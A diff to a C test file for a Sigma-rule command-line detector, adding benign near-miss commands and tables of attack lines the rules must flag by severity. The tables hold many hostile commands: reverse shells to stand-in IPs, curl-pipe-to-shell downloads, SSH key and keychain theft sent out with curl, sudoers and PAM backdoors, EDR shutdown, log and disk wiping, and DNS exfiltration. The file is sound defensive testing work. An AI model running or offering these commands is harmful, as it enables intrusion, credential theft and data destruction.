@@ -846,7 +846,7 @@ static void test_pack_benign(void **state) {
         "socat TCP-LISTEN:8080,fork TCP:localhost:80", "openssl s_client -connect example.com:443 -servername example.com",
         "base64 -d secret.b64 > secret.bin", "echo aGVsbG8= | base64 -d", "xattr -l ~/Downloads/report.pdf",
         "xattr -d com.apple.quarantine /Applications/Tool.app", "spctl --status", "csrutil status",
-        "tccutil reset Camera com.example.meet", "dscl . -read /Users/alice", "dscl . -list /Users",
+        "tccutil reset Camera com.example.meet", "dscl . -read /Users/alice",
         "security find-certificate -a -p", "osascript -e 'display notification \"build done\"'",
         "osascript -e 'tell application \"Finder\" to activate'", "modprobe nvidia", "dmesg | tail -20",
         "history | grep ssh", "history -c", "rm -rf node_modules", "truncate -s 0 app.log", "journalctl --vacuum-time=2d",
@@ -857,6 +857,92 @@ static void test_pack_benign(void **state) {
         "podman import -c CMD=/bin/bash rootfs.tar image:tag", "echo 1 > /proc/sys/net/ipv4/ip_forward",
         "sysctl -w kernel.core_pattern='|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h'",
         "install -m 0755 build/tool /usr/local/bin/tool", "chmod 4755 /usr/local/bin/helper",
+        /* near misses of the wider pack: downloads, credentials, persistence, services, logs, disks */
+        "truncate -s 0 app.log", "systemctl stop nginx",
+        "security find-certificate -a -p /Library/Keychains/System.keychain", "tar czf backup.tgz ~/docs",
+        "grep -rn password_reset src/", "openssl s_client -connect mail.example.com:993 </dev/null",
+        "nc -zv db1 5432 < /dev/null",
+        "wget https://ftp.gnu.org/gnu/hello/hello-2.12.tar.gz && tar xzf hello-2.12.tar.gz && cd hello-2.12 && ./configure",
+        "curl -o data.json https://api.example.com/v1/items; python3 report.py data.json",
+        "curl -s https://api.example.com/v1/items | python3 -m json.tool",
+        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])'", "grep -ri todo ~/src/project",
+        "find . -name '*.pem' -newer Makefile", "cat /etc/hostname", "getent passwd alice",
+        "grep alice /etc/passwd", "sudo visudo -c", "ls -l /etc/sudoers", "id -un", "uname -a; hostname",
+        "touch README.md", "touch -c build/stamp", "tmutil listbackups", "tmutil startbackup", "profiles list",
+        "sudo profiles show -type configuration", "mount --bind /srv/data /mnt/data",
+        "sysctl -w net.ipv4.ip_forward=1", "tar cf - src | ssh build 'tar xf - -C /work'",
+        "dig +short example.com", "nslookup $(hostname -f)", "dd if=/dev/zero of=disk.img bs=1M count=64",
+        "dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress", "rm -rf ./build/*",
+        "gpg -c notes.txt && rm notes.txt", "find . -name '*.log' -exec gzip {} \\;",
+        "docker run --rm -it alpine sh", "kubectl run tmp --image=busybox --rm -it -- sh", "./build.sh -p 8080",
+        "bash ./deploy.sh -p prod", "nmapper --help", "ps aux | grep nginx", "lscpu | grep -i 'model name'",
+        "cat /proc/cpuinfo", "echo aGVsbG8gd29ybGQ= | base64 -d", "base64 -d cert.b64 > cert.der",
+        "cat ~/.bash_profile", "history | tail", "python3 -m http.server 8080", "php -S localhost:8000 -t public/",
+        "screencapture ~/Desktop/shot.png", "tcpdump -i en0 -n port 443",
+        "curl -s https://api.github.com/repos/example/project", "openssl passwd -help", "shred -u old-secrets.txt",
+        "zip -r docs.zip docs/", "tar czf /tmp/build-cache.tgz node_modules", "nc -l 9000 > /dev/null",
+        "python3 -c \"open('out.txt','w').write('hi')\"", "crontab -l | grep backup",
+        "echo \"source ~/.nvm/nvm.sh\" >> ~/.bashrc", "echo 'eval \"$(ssh-agent -s)\"' >> ~/.bashrc",
+        "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.zshrc", "sudo launchctl list | grep com.apple",
+        "kill -9 12345", "killall Dock", "systemctl restart apparmor", "sudo aa-status", "getenforce",
+        "touch -r Makefile.am Makefile.in", "hashcat --version", "john --help", "ssh -D 1080 bastion",
+        "security find-generic-password -s 'github.com' -a octocat", "sqlite3 notes.db '.schema'",
+        "find ~/Library/Application\\ Support/Code -name '*.json'",
+        "du -sh ~/Library/Application\\ Support/Google/Chrome", "rm -rf ~/.cache/google-chrome", "gcore 4242",
+        "gdb -p 4242", "aws sts get-caller-identity", "kubectl config view --minify",
+        "grep -r \"api_key\" ./config", "strings ./a.out | grep -i version", "echo $((3+4))",
+        "dig @1.1.1.1 example.org", "host $(hostname)", "xxd -r -p hex.txt > bin.dat",
+        "openssl enc -aes-256-cbc -salt -in db.sql -out db.sql.enc", "for f in *.txt; do gzip \"$f\"; done",
+        "wipefs -a /dev/sdX1", "mkfs.ext4 /dev/sdb1", "diskutil eraseDisk APFS USB disk4",
+        "curl -o ~/.git-prompt.sh https://raw.githubusercontent.com/git/git/master/contrib/completion/git-prompt.sh && echo 'source ~/.git-prompt.sh' >> ~/.bashrc",
+        "echo 'session optional pam_exec.so /usr/local/bin/login-notify' >> /etc/pam.d/sshd",
+        "echo 'auth required pam_faillock.so preauth' | sudo tee -a /etc/pam.d/system-auth",
+        "for f in *.tar; do gpg -e -r backup@example.com \"$f\" && rm \"$f\"; done",
+        "docker run -d --name agent --privileged --pid=host --net=host -v /var/run/docker.sock:/host/var/run/docker.sock vendor/agent",
+        "sudo rm -rf /var/log/journal/*", "find /var/log/nginx -name '*.gz' -mtime +14 -delete",
+        "sudo find /var/log -type f -name '*.1' -delete", "kubectl get pods -o json | jq '.items[].spec.hostPID'",
+        "curl -fsSL https://example.com/install.sh -o install.sh && less install.sh",
+        "wget https://example.com/data.csv && python3 analyze.py", "brew install --cask firefox",
+        "brew services start postgresql@16", "git clone https://github.com/example/dotfiles && ./dotfiles/install",
+        "pip install --user requests", "npm ci && npm run build", "ssh -L 5432:db.internal:5432 bastion",
+        "rsync -avz --progress ./site/ web1:/var/www/site/", "systemctl status osqueryd",
+        "sudo osqueryi 'select * from processes limit 5'", "launchctl print system/com.crowdstrike.falcond",
+        "ps -ef | grep -v grep | grep postgres", "pgrep -fl python", "pkill -f 'node server.js'",
+        "kill -HUP $(cat /run/nginx.pid)", "sudo systemctl disable --now bluetooth", "tail -f /var/log/syslog",
+        "sudo less /var/log/auth.log", "sudo journalctl -u ssh --since today",
+        "zip -r project.zip project/ -x '*.git*'", "tar -czf /tmp/logs-$(date +%F).tgz /var/log/nginx",
+        "7z a archive.7z ~/Pictures/2024", "openssl enc -d -aes-256-cbc -in backup.enc -out backup.tar",
+        "gpg --decrypt secrets.gpg", "dd if=/dev/sda of=/mnt/backup/sda.img bs=4M status=progress",
+        "sudo fdisk -l /dev/sda", "diskutil info disk0", "diskutil eraseVolume JHFS+ Untitled /Volumes/USB",
+        "sudo tmutil setdestination /Volumes/Backup", "sudo profiles renew -type enrollment",
+        "defaults write com.apple.dock autohide -bool true", "mount -t tmpfs tmpfs /mnt/ram",
+        "nc -vz example.com 443", "ncat -l 8080 --keep-open", "socat - TCP:localhost:6379",
+        "dig +short TXT _dmarc.example.com", "host -t mx example.com",
+        "for h in web1 web2 web3; do ping -c1 $h; done", "nslookup example.com 8.8.8.8",
+        "echo \"$(date) backup done\" >> ~/backup.log",
+        "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://example.com').status)\"",
+        "node -e \"require('https').get('https://example.com', r => console.log(r.statusCode))\"",
+        "perl -MLWP::Simple -e 'getstore(\"https://example.com/f.txt\", \"f.txt\")'",
+        "ruby -e 'puts File.read(\"Gemfile\")'", "python3 -c \"import os; os.system('clear')\"",
+        "find ~ -name '*.pdf' -size +10M", "grep -r \"TODO\" /home/alice/project", "grep -rl 'password' docs/",
+        "cat ~/.kube/config | grep server", "kubectl config use-context prod", "aws configure list",
+        "cat ~/.ssh/config", "strings /usr/bin/ls | head", "id -Gn", "cat /etc/os-release",
+        "uname -r && lsb_release -a", "touch -d 'next monday' reminder.txt", "touch -m file.txt", "ls -la /tmp",
+        "chmod 700 ~/.ssh", "cp ~/.bashrc ~/.bashrc.bak", "source ~/.zshrc", "sudo apt-get install -y nmap-common",
+        "sudo tcpdump -i any -w /tmp/dns.pcap port 53", "screencapture -i ~/Desktop/region.png",
+        "base64 -w0 image.png > image.b64", "openssl base64 -in cert.pem", "xxd -p key.bin | tr -d '\\n'",
+        "curl -s https://ipinfo.example.com/docs", "openssl req -new -key server.key -out server.csr",
+        "python3 -m venv .venv && . .venv/bin/activate", "sudo launchctl bootout gui/501/com.example.agent",
+        "sudo launchctl unload /Library/LaunchDaemons/com.docker.vmnetd.plist", "shred -u /tmp/report.txt",
+        "rm -f /tmp/.X11-unix/X0", "ssh -i /home/deploy/.ssh/id_ed25519 deploy@web1",
+        "ssh-keygen -y -f /root/.ssh/id_rsa", "chmod 600 /home/deploy/.ssh/id_rsa",
+        "smbclient //fileserver/share -U alice -c 'ls'", "ldapsearch -x -b 'dc=example,dc=com' '(uid=alice)'",
+        "rclone ls gdrive:photos", "rclone copy ./dist s3:releases/v1.2",
+        "tar czf site.tgz public && curl -T site.tgz https://uploads.example.com/site.tgz",
+        "screencapture -i shot.png && open shot.png", "whois example.com",
+        "openssl s_client -connect example.com:443 > /dev/null", "hping3 -S -p 80 -c 3 example.com",
+        "curl -fsSLO https://cdn.example.com/lib/chart.min.js && node build.js",
+        "host $(hostname).corp.example.com", "dig +short $(hostname -s).example.net",
     };
     int err;
     sigma_rules *rs = sigma_rules_new(&err);
@@ -877,72 +963,197 @@ static void test_pack_benign(void **state) {
     sigma_rules_free(rs);
 }
 
-/* Textbook attack lines (public cheat-sheet forms): each must be hit, at
- * the level given or above. */
+/* Textbook attack lines (public cheat-sheet forms and our own variants):
+ * each must be hit, at the level given or above. */
+static const struct { const char *cmd; int level; } pack_attacks[] = {
+    {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", SIGMA_CRITICAL},
+    {"nc -e /bin/sh 10.0.0.1 4242", SIGMA_CRITICAL},
+    {"ncat 10.0.0.1 4242 --sh-exec '/bin/bash'", SIGMA_CRITICAL},
+    {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", SIGMA_CRITICAL},
+    {"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
+     "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", SIGMA_CRITICAL},
+    {"perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+     "connect(S,sockaddr_in(4242,inet_aton($i)));exec(\"/bin/sh -i\");'", SIGMA_CRITICAL},
+    {"php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", SIGMA_CRITICAL},
+    {"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", SIGMA_CRITICAL},
+    {"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", SIGMA_CRITICAL},
+    {"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { printf \"> \" |& s; s |& getline c; "
+     "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } }' /dev/null", SIGMA_CRITICAL},
+    {"telnet 10.0.0.1 4242 | /bin/bash | telnet 10.0.0.1 4243", SIGMA_CRITICAL},
+    {"curl -s http://198.51.100.2/x.sh | bash", SIGMA_HIGH},
+    {"wget -q http://198.51.100.2/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", SIGMA_HIGH},
+    {"echo ZWNobyBoaQ== | base64 -d | sh", SIGMA_CRITICAL},
+    {"unset HISTFILE", SIGMA_HIGH},
+    {"history -c && kill -9 $$", SIGMA_HIGH},
+    {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", SIGMA_HIGH},
+    {"chmod u+s /bin/bash", SIGMA_CRITICAL},
+    {"(crontab -l; echo '* * * * * curl -s http://198.51.100.2/p | sh') | crontab -", SIGMA_HIGH},
+    {"launchctl load -w /tmp/.cache/com.apple.update.plist", SIGMA_HIGH},
+    {"launchctl load ~/Library/LaunchAgents/com.example.helper.plist", SIGMA_MEDIUM},
+    {"osascript -e 'do shell script \"id\" with administrator privileges'", SIGMA_HIGH},
+    {"security dump-keychain -d login.keychain", SIGMA_HIGH},
+    {"security find-generic-password -s 'Chrome Safe Storage' -w", SIGMA_MEDIUM},
+    {"dscl . -create /Users/svc IsHidden 1", SIGMA_HIGH},
+    {"csrutil disable", SIGMA_HIGH},
+    {"spctl --master-disable", SIGMA_HIGH},
+    {"xattr -d com.apple.quarantine ~/Downloads/Installer.app", SIGMA_MEDIUM},
+    {"tccutil reset All", SIGMA_MEDIUM},
+    {"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker' >> /root/.ssh/authorized_keys", SIGMA_HIGH},
+    {"cat /etc/shadow", SIGMA_HIGH},
+    {"LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", SIGMA_HIGH},
+    {"iptables -F", SIGMA_MEDIUM},
+    {"chattr -i /etc/passwd", SIGMA_HIGH},
+    {"insmod /tmp/.x/rk.ko", SIGMA_CRITICAL},
+    {"find /var -maxdepth 0 -exec /bin/bash -p \\;", SIGMA_MEDIUM},
+    {"vim -c ':!/bin/sh'", SIGMA_HIGH},
+    {"echo '[Service]' > /etc/systemd/system/updater.service", SIGMA_MEDIUM},
+    {"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", SIGMA_HIGH},
+    {"sudo -u#-1 /bin/bash", SIGMA_CRITICAL},
+    {"echo 'toor:x:0:0:root:/root:/bin/bash' >> /etc/passwd", SIGMA_CRITICAL},
+    /* download-and-execute, miners, credential access, persistence, evasion, exfiltration, impact */
+    {"wget -q http://192.0.2.10/run.sh -O run.sh; bash run.sh", SIGMA_HIGH},
+    {"tftp -g -r impl.sh 192.0.2.10 && sh impl.sh", SIGMA_HIGH},
+    {"curl -fsSo /tmp/upd http://192.0.2.10/upd && /tmp/upd", SIGMA_HIGH},
+    {"curl -sL https://downloads.example.net/agent.pkg -o /tmp/agent.pkg && sudo installer -pkg /tmp/agent.pkg -target /", SIGMA_HIGH},
+    {"python -c \"import urllib2; exec(urllib2.urlopen('http://192.0.2.10/p').read())\"", SIGMA_HIGH},
+    {"wget -qO- https://192.0.2.10/stage2.py | python3 -", SIGMA_HIGH},
+    {"perl -MLWP::Simple -e 'eval(get(\"http://192.0.2.10/x.pl\"))'", SIGMA_HIGH},
+    {"/var/tmp/.x/sysupdate -o stratum+ssl://198.51.100.20:443 -u wallet -p x", SIGMA_HIGH},
+    {"./xmrig --donate-level 1 -o gulf.moneroocean.stream:10128 -u 4ABC", SIGMA_HIGH},
+    {"cp ~/Library/Application\\ Support/Google/Chrome/Default/Login\\ Data /tmp/ld.db", SIGMA_HIGH},
+    {"sqlite3 ~/.mozilla/firefox/abcd.default-release/cookies.sqlite 'select * from moz_cookies'", SIGMA_HIGH},
+    {"security find-generic-password -w -s \"Brave Safe Storage\"", SIGMA_HIGH},
+    {"gdb -p $(pidof gpg-agent) -batch -ex 'generate-core-file /tmp/core'", SIGMA_HIGH},
+    {"python3 mimipenguin.py", SIGMA_HIGH},
+    {"hashcat -m 1800 -a 0 shadow.hashes /usr/share/wordlists/rockyou.txt", SIGMA_HIGH},
+    {"hydra -l root -P passwords.txt ssh://192.0.2.44", SIGMA_HIGH},
+    {"echo 'nohup bash -i >& /dev/tcp/192.0.2.9/443 0>&1 &' >> ~/.bashrc", SIGMA_HIGH},
+    {"echo 'curl -s http://192.0.2.9/k | sh' >> /etc/profile.d/update.sh", SIGMA_HIGH},
+    {"echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sudo", SIGMA_HIGH},
+    {"cp pam_backdoor.so /lib/x86_64-linux-gnu/security/pam_unix2.so", SIGMA_HIGH},
+    {"mv /tmp/u.plist /Library/LaunchDaemons/com.apple.systemupdate.plist", SIGMA_HIGH},
+    {"echo '<string>bash -i >& /dev/tcp/192.0.2.9/443 0>&1</string>' > ~/Library/LaunchAgents/com.user.sync.plist", SIGMA_CRITICAL},
+    {"sudo launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist", SIGMA_HIGH},
+    {"systemctl stop osqueryd", SIGMA_HIGH},
+    {"pkill -9 -f sentinelone", SIGMA_HIGH},
+    {"touch -r /usr/sbin/sshd /usr/sbin/.sshd-helper", SIGMA_HIGH},
+    {"sudo tmutil disable; sudo tmutil delete -a", SIGMA_HIGH},
+    {"launchctl setenv DYLD_INSERT_LIBRARIES /Users/Shared/libinj.dylib", SIGMA_HIGH},
+    {"sudo mount --bind /var/empty /proc/31337", SIGMA_HIGH},
+    {"tar cz /home/bob | nc 192.0.2.9 8443", SIGMA_HIGH},
+    {"nslookup $(whoami | base64).c2.example.org", SIGMA_HIGH},
+    {"cat ~/.ssh/id_rsa | curl -d @- https://203.0.113.50/collect", SIGMA_CRITICAL},
+    {"dd if=/dev/urandom of=/dev/nvme0n1 bs=4M", SIGMA_HIGH},
+    {"rm -rf --no-preserve-root /", SIGMA_HIGH},
+    {"find /srv -type f -exec gpg --batch --passphrase k -c {} \\; -exec shred -u {} \\;", SIGMA_HIGH},
+    {"docker run --rm -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh", SIGMA_HIGH},
+    {"echo '/tmp/x.sh' > /tmp/cgrp/release_agent", SIGMA_HIGH},
+    {"/dev/shm/.bash -p", SIGMA_HIGH},
+    {"zmodload zsh/net/tcp; ztcp 192.0.2.9 9001; zsh -i <&$REPLY >&$REPLY 2>&$REPLY", SIGMA_CRITICAL},
+    {"echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAAA= | base64 -d > /var/tmp/svc", SIGMA_HIGH},
+    {"perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"192.0.2.9:9001\");open(F,\"</etc/hosts\");print $s $_ while <F>'", SIGMA_HIGH},
+    {"echo '*/5 * * * * /var/tmp/.svc/run' | crontab -", SIGMA_HIGH},
+    {"rm -f /var/log/wtmp /var/log/btmp", SIGMA_HIGH},
+    {"find /var/log -type f -name '*.log' -delete", SIGMA_HIGH},
+    {"truncate -s 0 /var/log/auth.log", SIGMA_HIGH},
+    {"sudo capsh --caps=\"cap_setuid+ep\" --uid=0 -- -c id", SIGMA_HIGH},
+    {"sysctl -w kernel.core_pattern='|/var/tmp/h %p'", SIGMA_HIGH},
+    {"eval \"$(echo ZWNobyBoaQ== | base64 -d)\"", SIGMA_HIGH},
+    {"chmod 755 /dev/shm/kthreadd", SIGMA_HIGH},
+    {"nc 192.0.2.9 7000 < /etc/hosts", SIGMA_HIGH},
+    {"agetty -n -l /bin/bash tty2", SIGMA_HIGH},
+    {"sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.hook.sh", SIGMA_HIGH},
+    {"exec 3<>/dev/tcp/192.0.2.9/80", SIGMA_HIGH},
+    {"osascript -e 'display dialog \"Software Update needs your password\" default answer \"\" with hidden answer'", SIGMA_HIGH},
+    {"chmod 666 /etc/shadow", SIGMA_CRITICAL},
+    {"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.9:443 > /tmp/s", SIGMA_CRITICAL},
+    {"xterm -display 192.0.2.9:1 &", SIGMA_HIGH},
+    {"setcap cap_setuid+ep /usr/bin/python3.11", SIGMA_HIGH},
+    {"sh -i 0<&2 1>&2", SIGMA_HIGH},
+    {"chmod u+s /var/tmp/.helper", SIGMA_HIGH},
+    {"chmod 4777 /usr/local/bin/tool", SIGMA_HIGH},
+    {"cp /bin/sh /usr/sbin/cron", SIGMA_HIGH},
+    {"tar -cjf /var/tmp/h.tbz ~/.aws ~/.ssh && curl -T /var/tmp/h.tbz ftp://198.51.100.31/in/", SIGMA_HIGH},
+    {"import -window root /tmp/.w.png; curl -s -F img=@/tmp/.w.png http://198.51.100.32/up", SIGMA_HIGH},
+    {"hydra -L users.txt -P pw.txt 192.0.2.7 ftp", SIGMA_HIGH},
+    {"ping -c1 $(id -un | xxd -p).t.example.org", SIGMA_HIGH},
+};
+
+/* Dual-use and discovery lines: each must be hit at exactly medium (a hint
+ * for the model, suspicious on its own), never at high, which would decide
+ * malicious with no model. */
+static const char *const pack_medium[] = {
+    "cat ~/.aws/credentials", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role",
+    "grep -Ri 'password' /etc 2>/dev/null", "find /home -name '*.pem' 2>/dev/null",
+    "find / -iname 'id_ed25519*' -type f 2>/dev/null", "xxd /etc/sudoers", "cat /etc/passwd | cut -d: -f1",
+    "getent group sudo", "dscacheutil -q user", "awk -F: '$3 == 0 {print $1}' /etc/passwd",
+    "whoami && uname -r && cat /etc/os-release && ip addr", "getcap -r / 2>&1 | grep ep",
+    "find / -perm -o+w -type d 2>/dev/null",
+    "curl -L https://github.com/x/releases/latest/download/linpeas.sh -o lp.sh",
+    "osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Applications/Helper.app\", hidden:true}'",
+    "sudo cp helper.plist /Library/LaunchDaemons/com.vendor.helper.plist", "sudo setenforce Permissive",
+    "sudo systemctl disable --now apparmor", "touch -t 201901011200 /usr/local/bin/svc",
+    "sudo tmutil deletelocalsnapshots /", "profiles remove -identifier com.corp.security -forced",
+    "nmap -sV -p- 10.1.0.0/24", "ps aux | grep -iE 'falcon|sentinel|osquery'",
+    "system_profiler SPHardwareDataType | grep -i vmware", "grep -q docker /proc/1/cgroup && echo container",
+    "echo H4sIAAAAAAAAA+3OMQ6CQBCF4d09hSfYYYCFnMDExsrCRJotYGwrGxOwQsPdiR2dnVT6vuJlkvn/ZNKKjG2CiZk2cS5m | base64 -d > payload.gz",
+    "tail -n 200 /root/.bash_history", "python3 -m http.server 9000 --directory /",
+    "screencapture -x -t jpg /tmp/.cap.jpg", "tcpdump -A -i any port 23", "wget -qO- https://icanhazip.com",
+    "openssl passwd -6 -salt s4lt hunter2", "shred -zu /dev/shm/.stage", "zip -r -P s3cr3t /tmp/out.zip ~/.ssh",
+    "nc 192.0.2.9 9001 > /tmp/tool", "sudo ufw --force disable", "sudo pfctl -F nat -d",
+    "echo \"15 2 * * 0 /usr/local/sbin/rotate-reports\" | sudo tee /etc/cron.d/reports",
+    "ls -la ~/Library/Application\\ Support/Firefox/Profiles/",
+    "osascript -e 'tell application \"Google Chrome\" to get URL of active tab of front window'",
+    "security find-generic-password -s slack-token -w | xargs -I{} curl -H \"Authorization: Bearer {}\" -X POST https://slack.com/api/chat.postMessage",
+    "sudo cat /etc/sudoers.d/README", "cat /etc/group | grep docker",
+    "curl -F 'f=@/var/tmp/out.tgz' https://paste.example.org/upload",
+    "python3 -c 'import ctypes; ctypes.CDLL(\"/opt/x/libx.so\")'", "sudo sysadminctl -addUser backup2 -password x",
+    "cp /bin/bash /opt/tools/bash-copy", "find / -xdev -perm -4000 -ls 2>/dev/null", "ngrok tcp 22",
+    "awk 'NR<50' /home/deploy/.ssh/id_ecdsa", "smbclient --list=//192.0.2.30 --no-pass",
+    "showmount -e nfs1.example.lan",
+    "ldapsearch -LLL -x -h dc.example.lan -b 'dc=example,dc=lan' '(objectCategory=computer)' dNSHostName",
+    "rclone sync ~/Desktop dropbox:desk", "security find-generic-password -w -s wifi",
+    "whois -h 192.0.2.9 -p 4444 \"$(cat /etc/hostname)\"", "hping3 -1 198.51.100.4 -E /etc/hosts -d 1400",
+    "curl gopher://192.0.2.9:70/_hello", "openssl s_client -quiet -connect 192.0.2.9:8443 > /var/tmp/.p",
+};
+
+/* The best level of the pack's hits on a bare command line (-1: none);
+ * counts the hits of each rule in SEEN when given. */
+static int pack_best(const sigma_rules *rs, const char *cmd, int *seen) {
+    char argv0[64];
+    snprintf(argv0, sizeof argv0, "%.*s", (int)strcspn(cmd, " "), cmd);
+    kv e = {{"CommandLine", "Image"}, {cmd, argv0}, 2};
+    sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
+    sigma_hit h[32];
+    int k = sigma_match(rs, &v, h, 32);
+    assert_true(k <= 32);
+    int best = -1;
+    for (int j = 0; j < k; j++) {
+        if (h[j].level > best) best = h[j].level;
+        if (seen) seen[h[j].rule]++;
+    }
+    return best;
+}
+
 static void test_pack_attacks(void **state) {
     (void)state;
-    static const struct { const char *cmd; int level; } attacks[] = {
-        {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", SIGMA_CRITICAL},
-        {"nc -e /bin/sh 10.0.0.1 4242", SIGMA_CRITICAL},
-        {"ncat 10.0.0.1 4242 --sh-exec '/bin/bash'", SIGMA_CRITICAL},
-        {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", SIGMA_CRITICAL},
-        {"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
-         "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", SIGMA_CRITICAL},
-        {"perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
-         "connect(S,sockaddr_in(4242,inet_aton($i)));exec(\"/bin/sh -i\");'", SIGMA_CRITICAL},
-        {"php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", SIGMA_CRITICAL},
-        {"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", SIGMA_CRITICAL},
-        {"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", SIGMA_CRITICAL},
-        {"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { printf \"> \" |& s; s |& getline c; "
-         "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } }' /dev/null", SIGMA_CRITICAL},
-        {"telnet 10.0.0.1 4242 | /bin/bash | telnet 10.0.0.1 4243", SIGMA_CRITICAL},
-        {"curl -s http://198.51.100.2/x.sh | bash", SIGMA_HIGH},
-        {"wget -q http://198.51.100.2/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", SIGMA_HIGH},
-        {"echo ZWNobyBoaQ== | base64 -d | sh", SIGMA_CRITICAL},
-        {"unset HISTFILE", SIGMA_HIGH},
-        {"history -c && kill -9 $$", SIGMA_HIGH},
-        {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", SIGMA_HIGH},
-        {"chmod u+s /bin/bash", SIGMA_CRITICAL},
-        {"(crontab -l; echo '* * * * * curl -s http://198.51.100.2/p | sh') | crontab -", SIGMA_HIGH},
-        {"launchctl load -w /tmp/.cache/com.apple.update.plist", SIGMA_HIGH},
-        {"launchctl load ~/Library/LaunchAgents/com.example.helper.plist", SIGMA_MEDIUM},
-        {"osascript -e 'do shell script \"id\" with administrator privileges'", SIGMA_HIGH},
-        {"security dump-keychain -d login.keychain", SIGMA_HIGH},
-        {"security find-generic-password -s 'Chrome Safe Storage' -w", SIGMA_MEDIUM},
-        {"dscl . -create /Users/svc IsHidden 1", SIGMA_HIGH},
-        {"csrutil disable", SIGMA_HIGH},
-        {"spctl --master-disable", SIGMA_HIGH},
-        {"xattr -d com.apple.quarantine ~/Downloads/Installer.app", SIGMA_MEDIUM},
-        {"tccutil reset All", SIGMA_MEDIUM},
-        {"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker' >> /root/.ssh/authorized_keys", SIGMA_HIGH},
-        {"cat /etc/shadow", SIGMA_HIGH},
-        {"LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", SIGMA_HIGH},
-        {"iptables -F", SIGMA_MEDIUM},
-        {"chattr -i /etc/passwd", SIGMA_HIGH},
-        {"insmod /tmp/.x/rk.ko", SIGMA_CRITICAL},
-        {"find /var -maxdepth 0 -exec /bin/bash -p \\;", SIGMA_MEDIUM},
-        {"vim -c ':!/bin/sh'", SIGMA_HIGH},
-        {"echo '[Service]' > /etc/systemd/system/updater.service", SIGMA_MEDIUM},
-        {"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", SIGMA_HIGH},
-        {"sudo -u#-1 /bin/bash", SIGMA_CRITICAL},
-        {"echo 'toor:x:0:0:root:/root:/bin/bash' >> /etc/passwd", SIGMA_CRITICAL},
-    };
     int err;
     sigma_rules *rs = sigma_rules_new(&err);
     assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
     int bad = 0;
-    for (size_t i = 0; i < NJ_ARRAY_LEN(attacks); i++) {
-        char argv0[64];
-        snprintf(argv0, sizeof argv0, "%.*s", (int)strcspn(attacks[i].cmd, " "), attacks[i].cmd);
-        kv e = {{"CommandLine", "Image"}, {attacks[i].cmd, argv0}, 2};
-        sigma_event_view v = {kv_get, &e, attacks[i].cmd, strlen(attacks[i].cmd), NULL, "process_creation", NULL};
-        sigma_hit h[16];
-        int k = sigma_match(rs, &v, h, 16);
-        int best = -1;
-        for (int j = 0; j < k && j < 16; j++) if (h[j].level > best) best = h[j].level;
-        if (best < attacks[i].level) {
-            fprintf(stderr, "attack line %s (best level %d, want %d): %s\n", k ? "under-rated" : "missed",
-                    best, attacks[i].level, attacks[i].cmd);
+    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_attacks); i++) {
+        int best = pack_best(rs, pack_attacks[i].cmd, NULL);
+        if (best < pack_attacks[i].level) {
+            fprintf(stderr, "attack line %s (best level %d, want %d): %s\n", best >= 0 ? "under-rated" : "missed",
+                    best, pack_attacks[i].level, pack_attacks[i].cmd);
+            bad++;
+        }
+    }
